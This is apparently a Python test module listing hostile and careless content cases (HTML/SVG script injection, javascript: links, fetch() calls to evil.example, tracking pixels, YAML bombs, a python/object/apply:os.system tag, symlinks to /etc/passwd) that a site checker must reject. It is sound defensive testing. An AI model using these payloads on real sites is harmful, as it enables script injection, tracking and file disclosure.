"""A corpus of hostile and careless content, as an attacker or a hurried editor writes it.

Each case breaks a private copy of the basic fixture in one way; `expected` is the
problem `strategi check` and the build must both report: (file, line, message).
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SECTION = "versions/v1/skog.md"
BODY_LINE = 11  # where text appended to the section starts
CONSULTATION = "versions/v2/version.yml"


@dataclass(frozen=True)
class Case:
    id: str
    change: Callable[[Path], None]
    expected: tuple[str, int | None, str]


def append(text: str, file: str = SECTION) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        with (root / file).open("a", encoding="utf-8") as stream:
            stream.write("\n" + text + "\n")

    return change


def replace(file: str, old: str, new: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / file
        text = path.read_text(encoding="utf-8")
        assert old in text, (old, file)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    return change


def symlink(file: str, target: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / file
        if path.exists():
            path.unlink()
        os.symlink(target, path)

    return change


def write(file: str, content: str | bytes) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        path = root / file
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")

    return change


def body(id: str, text: str, message: str, offset: int = 0) -> Case:
    return Case(id, append(text), (SECTION, BODY_LINE + offset, message))


def tag(name: str) -> str:
    return f"the HTML tag <{name}> is not allowed in a section"


def scheme(target: str, name: str) -> str:
    return f"the link '{target}' uses the scheme '{name}:'"


def image(target: str) -> str:
    return f"the image '{target}' is not in the version's folder"


def respond_to(value: str, quoted: str | None = None) -> Case:
    return Case(
        f"respond_to {value}",
        replace(
            CONSULTATION, "respond_to: registrator@example.se", f"respond_to: {quoted or value}"
        ),
        (
            CONSULTATION,
            10,
            f"'respond_to' is neither an e-mail address nor an https address: '{value}'",
        ),
    )


BOMB = 'a: &a ["x","x","x","x","x","x","x","x","x"]\n' + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [" + ",".join([f"*{chr(97 + i)}"] * 9) + "]\n" for i in range(8)
)
ALIASES = "YAML anchors and aliases (&name, *name) are not allowed"

MAP = "versions/v1/karta.svg"
SVG_OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"\n'
    '     viewBox="0 0 100 100">\n'
)


def svg(id: str, inner: str, message: str, line: int = 3, root: str = SVG_OPEN) -> Case:
    """An SVG asset in v1 (opened from the text by a link) holding `inner` on line 3."""
    return Case(f"svg {id}", write(MAP, root + inner + "\n</svg>\n"), (MAP, line, message))


def svg_reference(target: str) -> str:
    return f"the SVG image refers to another file or host: '{target}'"


CASES = [
    # Raw HTML that runs, loads or redirects.
    body("script", "<script>alert(1)</script>", tag("script")),
    body("script upper case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", tag("script")),
    body("script in a paragraph", "Text <script>fetch('//evil')</script> text", tag("script")),
    body("iframe", '<iframe src="https://evil.example/"></iframe>', tag("iframe")),
    body("svg onload in a body", "<svg onload=alert(1)>", tag("svg")),
    body("base", '<base href="https://evil.example/">', tag("base")),
    body(
        "meta refresh",
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        tag("meta"),
    ),
    body("object", '<object data="x.swf"></object>', tag("object")),
    body("embed", '<embed src="x.swf">', tag("embed")),
    body("style", "<style>body{display:none}</style>", tag("style")),
    body(
        "link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', tag("link")
    ),
    body("form", '<form action="https://evil.example/"><input name=p></form>', tag("form")),
    body("math", "<math><maction actiontype=statusline>x</maction></math>", tag("math")),
    body("template", "<template><script>x</script></template>", tag("template")),
    body("video", '<video src="film.mp4"></video>', tag("video")),
    body("audio", '<audio src="https://evil.example/a.mp3"></audio>', tag("audio")),
    body("tag split over lines", "Text\n<script\n>alert(1)</script>", tag("script"), 1),
    # Allowed tags with attributes that run script or restyle the page.
    body(
        "onclick",
        '<p onclick="alert(1)">Klicka</p>',
        "the attribute 'onclick' is not allowed on <p>",
    ),
    body(
        "onerror",
        '<img src="karta.png" alt="" onerror="alert(1)">',
        "the attribute 'onerror' is not allowed on <img>",
    ),
    body(
        "onmouseover unquoted",
        "<span onmouseover=alert(1)>x</span>",
        "the attribute 'onmouseover' is not allowed on <span>",
    ),
    body(
        "style attribute",
        '<div style="position:fixed;top:0">x</div>',
        "the attribute 'style' is not allowed on <div>",
    ),
    body(
        "srcset",
        '<img src="x.png" srcset="https://evil.example/p.png 2x" alt="">',
        "the attribute 'srcset' is not allowed on <img>",
    ),
    body(
        "formaction",
        '<span formaction="https://evil.example">x</span>',
        "the attribute 'formaction' is not allowed on <span>",
    ),
    body(
        "attribute over lines",
        '<div\n  onclick="alert(1)">x</div>',
        "the attribute 'onclick' is not allowed on <div>",
    ),
    body(
        "paragraph anchor id",
        '<span id="p2">x</span>',
        "the id 'p2' is a paragraph number's anchor",
    ),
    body("bad lang", '<span lang="x y">x</span>', "'x y' is not a language code"),
    # attr_list
    body(
        "attr_list onclick",
        'Text\n{: onclick="alert(1)" }',
        "the attribute 'onclick' cannot be set with {: ... }",
        1,
    ),
    body(
        "attr_list without colon",
        "## Rubrik { onmouseover=alert(1) }",
        "the attribute 'onmouseover' cannot be set with {: ... }",
    ),
    body(
        "attr_list on a link",
        "[x](https://example.org){: onclick=alert(1) }",
        "the attribute 'onclick' cannot be set with {: ... }",
    ),
    body(
        "attr_list style",
        "Text\n{: style='display:none' }",
        "the attribute 'style' cannot be set with {: ... }",
        1,
    ),
    body(
        "attr_list href",
        "[x](https://example.org){: href='javascript:alert(1)' }",
        "the attribute 'href' cannot be set with {: ... }",
    ),
    body(
        "attr_list paragraph id", "## Rubrik {: #p1 }", "the id 'p1' is a paragraph number's anchor"
    ),
    body("attr_list id=p", "## Rubrik {: id=p3 }", "the id 'p3' is a paragraph number's anchor"),
    body(
        "attr_list data",
        "Text\n{: data-st-mark=x }",
        "the attribute 'data-st-mark' cannot be set with {: ... }",
        1,
    ),
    # Links to schemes that run or leave the web.
    body("javascript link", "[x](javascript:alert(1))", scheme("javascript:alert(1", "javascript")),
    body(
        "javascript upper case",
        "[x](JavaScript:alert(1))",
        scheme("JavaScript:alert(1", "JavaScript"),
    ),
    body(
        "data link",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        scheme("data:text/html;base64,PHNjcmlwdD4=", "data"),
    ),
    body("vbscript", "[x](vbscript:msgbox)", scheme("vbscript:msgbox", "vbscript")),
    body(
        "javascript reference",
        "[x][r]\n\n[r]: javascript:alert(1)",
        scheme("javascript:alert(1)", "javascript"),
        2,
    ),
    body(
        "javascript autolink", "<javascript:alert(1)>", scheme("javascript:alert(1)", "javascript")
    ),
    body(
        "javascript in HTML",
        '<a href="javascript:alert(1)">x</a>',
        scheme("javascript:alert(1)", "javascript"),
    ),
    body(
        "entity-encoded javascript",
        '<a href="jav&#x61;script:alert(1)">x</a>',
        scheme("javascript:alert(1)", "javascript"),
    ),
    body(
        "tab in scheme",
        '<a href="java&#9;script:alert(1)">x</a>',
        scheme("javascript:alert(1)", "javascript"),
    ),
    body("file link", "[x](file:///etc/passwd)", scheme("file:///etc/passwd", "file")),
    body(
        "mailto bcc",
        '<a href="mailto:a@example.se?bcc=b@example.se">x</a>',
        "the mail link 'mailto:a@example.se?bcc=b@example.se' adds recipients",
    ),
    # Images and embedded files from other hosts (tracking pixels).
    body(
        "remote image",
        "![Karta](https://tracker.example/p.gif)",
        image("https://tracker.example/p.gif"),
    ),
    body(
        "protocol-relative image",
        "![Karta](//tracker.example/p.gif)",
        image("//tracker.example/p.gif"),
    ),
    body(
        "remote image in HTML",
        '<img src="https://tracker.example/p.gif" alt="x">',
        image("https://tracker.example/p.gif"),
    ),
    body(
        "remote image by reference",
        "![Karta][k]\n\n[k]: https://tracker.example/p.gif",
        image("https://tracker.example/p.gif"),
    ),
    body(
        "data image",
        '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
        image("data:image/svg+xml,<svg onload=alert(1)>"),
    ),
    body(
        "backslashed remote image",
        '<img src="\\\\tracker.example\\p.gif" alt="x">',
        image("//tracker.example/p.gif"),
    ),
    body(
        "image outside the folder", '<img src="../v2/karta.png" alt="x">', image("../v2/karta.png")
    ),
    # Titles, summaries and addresses.
    Case(
        "title over two lines",
        replace(SECTION, "title: Skog", 'title: "Skog\\n# Rubrik"'),
        (SECTION, 2, "'title' must be one line"),
    ),
    Case(
        "title as a number",
        replace(SECTION, "title: Skog", "title: 1.10"),
        (SECTION, 2, "'title' should be text, not '1.1'"),
    ),
    Case(
        "title as yes",
        replace(SECTION, "title: Skog", "title: true"),
        (SECTION, 2, "'title' should be text, not 'True'"),
    ),
    respond_to("javascript:alert(1)"),
    respond_to("registrator@example.se?bcc=all@example.se"),
    respond_to("a@example.se, b@example.se", "'a@example.se, b@example.se'"),
    respond_to("http://example.se/form"),
    respond_to('https://example.se/"onmouseover=x', "'https://example.se/\"onmouseover=x'"),
    respond_to("registrator"),
    # YAML that takes minutes and gigabytes, or a traceback.
    Case(
        "alias bomb in version.yml",
        append(BOMB, "versions/v1/version.yml"),
        ("versions/v1/version.yml", 15, ALIASES),
    ),
    Case(
        "alias in front matter",
        replace(SECTION, "title: Skog", "x: &a Skog\ntitle: *a"),
        (SECTION, 2, ALIASES),
    ),
    Case(
        "deep nesting",
        replace(SECTION, "title: Skog", "title: " + "[" * 200 + "]" * 200),
        (SECTION, 2, "the YAML is nested more than 50 levels deep"),
    ),
    Case(
        "huge document",
        append("x: '" + "y" * 2_100_000 + "'", "versions/v1/version.yml"),
        ("versions/v1/version.yml", None, "the YAML is too large (2100 kB; at most 2000 kB)"),
    ),
    # Symbolic links that would publish files of the build machine.
    Case(
        "symlinked figure",
        symlink("versions/v1/karta.png", "../../../../.git/config"),
        (
            "versions/v1/karta.png",
            None,
            "a symbolic link: the content may hold only real files and folders",
        ),
    ),
    Case(
        "symlinked section",
        symlink("versions/v1/skog.md", "/etc/passwd"),
        (SECTION, None, "a symbolic link: the content may hold only real files and folders"),
    ),
    Case(
        "symlinked version folder",
        symlink("versions/v9", "/etc"),
        ("versions/v9", None, "a symbolic link: the content may hold only real files and folders"),
    ),
    Case(
        "symlinked strategy.yml",
        symlink("strategy.yml", "/etc/hostname"),
        ("strategy.yml", None, "a symbolic link: the content may hold only real files and folders"),
    ),
    # SVG images: opened from a link, an SVG is a document on the site's own origin,
    # where the pages' <meta> policy does not reach.
    svg(
        "script",
        '<script>fetch("https://evil.example/p.png")</script>',
        "the element <script> is not allowed in an SVG image",
    ),
    svg(
        "script with a prefix",
        '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
        "the element <script> is not allowed in an SVG image",
    ),
    svg(
        "onload",
        "",
        "the attribute 'onload' is not allowed in an SVG image",
        1,
        SVG_OPEN.replace("<svg ", '<svg onload="alert(1)" '),
    ),
    svg(
        "onclick on a shape",
        '<rect width="10" height="10" onclick="alert(1)"/>',
        "the attribute 'onclick' is not allowed in an SVG image",
    ),
    svg(
        "foreignObject",
        "<foreignObject><p>x</p></foreignObject>",
        "the element <foreignObject> is not allowed in an SVG image",
    ),
    svg(
        "XHTML script",
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
        "the element <script> (namespace http://www.w3.org/1999/xhtml) is not allowed in an "
        "SVG image",
    ),
    svg(
        "external image",
        '<image href="https://evil.example/p.png" width="10" height="10"/>',
        svg_reference("https://evil.example/p.png"),
    ),
    svg(
        "protocol-relative xlink",
        '<image xlink:href="//evil.example/p.png"/>',
        svg_reference("//evil.example/p.png"),
    ),
    svg(
        "use another file",
        '<use href="andra.svg#x"/>',
        svg_reference("andra.svg#x"),
    ),
    svg(
        "data SVG image",
        '<image href="data:image/svg+xml;base64,PHN2Zz4="/>',
        svg_reference("data:image/svg+xml;base64,PHN2Zz4="),
    ),
    svg(
        "javascript link",
        '<a href="javascript:alert(1)"><text>x</text></a>',
        svg_reference("javascript:alert(1)"),
    ),
    svg(
        "style import",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<style> in the SVG image imports another stylesheet (@import)",
    ),
    svg(
        "style url",
        "<style><![CDATA[rect { fill: url(https://evil.example/p.png) }]]></style>",
        svg_reference("https://evil.example/p.png"),
    ),
    svg(
        "escaped url in a style attribute",
        '<rect style="fill: u\\72l(https://evil.example/p.png)"/>',
        svg_reference("https://evil.example/p.png"),
    ),
    svg(
        "fill from another host",
        '<rect fill="url(https://evil.example/p.svg#g)"/>',
        svg_reference("https://evil.example/p.svg#g"),
    ),
    svg(
        "animation sets a link",
        '<a><set attributeName="href" to="https://evil.example/"/><text>x</text></a>',
        "the element <set> is not allowed in an SVG image",
    ),
    Case(
        "svg stylesheet instruction",
        write(MAP, '<?xml-stylesheet href="https://evil.example/x.css"?>\n' + SVG_OPEN + "</svg>"),
        (MAP, 1, "the SVG image holds the processing instruction <?xml-stylesheet ...?>"),
    ),
    Case(
        "svg entities",
        write(MAP, '<!DOCTYPE svg [\n<!ENTITY a "b">\n]>\n' + SVG_OPEN + "</svg>"),
        (MAP, 2, "the SVG image declares the entity 'a' (<!ENTITY>)"),
    ),
    Case(
        "svg that is a web page",
        write(MAP, '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
        (MAP, 1, "the file is not an SVG image: it starts with <html>, not <svg>"),
    ),
    Case(
        "svg upper-case name",
        write("versions/v1/KARTA.SVG", SVG_OPEN + "<script>alert(1)</script>\n</svg>"),
        ("versions/v1/KARTA.SVG", 3, "the element <script> is not allowed in an SVG image"),
    ),
    Case(
        "svg in a subfolder",
        write("versions/v1/bilder/karta.svg", SVG_OPEN + "<script>alert(1)</script>\n</svg>"),
        ("versions/v1/bilder/karta.svg", 3, "the element <script> is not allowed in an SVG image"),
    ),
    Case(
        "png that is an SVG",
        write("versions/v1/karta.png", SVG_OPEN + "<script>alert(1)</script></svg>"),
        (
            "versions/v1/karta.png",
            None,
            "'karta.png' is not a PNG, JPEG, GIF or WebP image, as its name says",
        ),
    ),
    Case(
        "web page in a version folder",
        write("versions/v1/sida.html", "<script>alert(1)</script>"),
        (
            "versions/v1/sida.html",
            None,
            "'sida.html' is neither a section, a translation nor a file the site publishes",
        ),
    ),
    # Comments, tags and controls that read otherwise to a browser than to the policy.
    body("script after a comment", "<!-- not -->\n\n<script>alert(1)</script>", tag("script"), 2),
    body(
        "unclosed comment",
        "<!-- <script>alert(1)</script>",
        "the HTML comment is not closed with -->",
    ),
    body(
        "comment ending --!>",
        "<!-- x --!><script>alert(1)</script>",
        "the HTML comment ends with --!>, which browsers and Markdown read differently",
    ),
    body(
        "tag too long to read",
        '<span title="' + "x" * 2100 + '" onclick=alert(1)>x</span>',
        "an HTML tag that is not closed where it seems to be, or longer than 2000 characters",
    ),
    body("code span in a tag", "Se <a`<`> här", "a code span (`...`) inside an HTML tag"),
    body(
        "encoded bcc",
        "[x](mailto:a@example.se?%62cc=b@example.se)",
        "the mail link 'mailto:a@example.se?%62cc=b@example.se' adds recipients",
    ),
    body(
        "two mail recipients",
        "[x](mailto:a@example.se,b@example.se)",
        "the mail link 'mailto:a@example.se,b@example.se' adds recipients",
    ),
    body(
        "change stop id",
        "## Rubrik {: #andring-1 }",
        "the id 'andring-1' marks a change on the pages of changes",
    ),
    body(
        "theme id",
        '<span id="__search">x</span>',
        "the id '__search' is the theme's (ids starting with __ are)",
    ),
    body(
        "bidi override in a body",
        "Betala till \u202ekonto\u202c.",
        "the text holds the control character U+202E RIGHT-TO-LEFT OVERRIDE",
    ),
    Case(
        "bidi override in a title",
        replace(SECTION, "title: Skog", "title: Skog\u202e"),
        (SECTION, 2, "'title' holds the control character U+202E RIGHT-TO-LEFT OVERRIDE"),
    ),
    Case(
        "escape character in a title",
        replace(SECTION, "title: Skog", 'title: "Skog\\e[2J"'),
        (SECTION, 2, "'title' holds the control character U+001B"),
    ),
    # YAML that would construct objects or take long to convert.
    Case(
        "python tag",
        replace(SECTION, "title: Skog", "title: !!python/object/apply:os.system [id]"),
        (SECTION, 2, "the YAML tag '!!python/object/apply:os.system' is not allowed"),
    ),
    Case(
        "local tag",
        replace(SECTION, "title: Skog", "title: !ref Skog"),
        (SECTION, 2, "the YAML tag '!ref' is not allowed"),
    ),
    Case(
        "number too long",
        replace(SECTION, "title: Skog", "title: " + "9" * 5000),
        (
            SECTION,
            2,
            "the YAML cannot be read: the number has 5000 digits, more than a number may "
            "have (4000)",
        ),
    ),
    # Text so large that check and the build would take minutes and gigabytes.
    Case(
        "huge section",
        append("Skog. " * 350_000),
        (SECTION, None, "the file is too large (2100 kB; at most 2000 kB)"),
    ),
    Case(
        "huge content in all",
        lambda root: [
            (root / f"versions/v1/stor-{n}.en.md").write_text("x" * 1_900_000) for n in range(11)
        ],
        (
            "versions",
            None,
            "the sections and translations hold 20 MB of text in all (at most 20 MB)",
        ),
    ),
]
